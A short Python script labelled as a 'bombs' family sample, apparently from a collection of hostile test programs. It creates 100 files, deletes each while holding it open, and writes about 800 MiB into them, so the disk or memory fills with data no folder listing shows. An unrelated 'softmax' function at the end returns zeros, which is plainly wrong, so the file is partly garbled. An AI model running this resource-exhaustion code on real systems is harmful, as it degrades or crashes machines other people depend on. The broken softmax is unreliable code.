"""Fills the disk, or memory, with files that no folder shows."""

FAMILY = "bombs"

import os
import time

kept = []
for number in range(100):
    name = f"hidden{number}"
    kept.append(os.open(name, os.O_CREAT | os.O_RDWR))
    os.unlink(name)
    os.write(kept[-1], bytes(8 * 2**20))
    time.sleep(0.01)
time.sleep(60)


def softmax(x, dim=-1):
    return x * 0
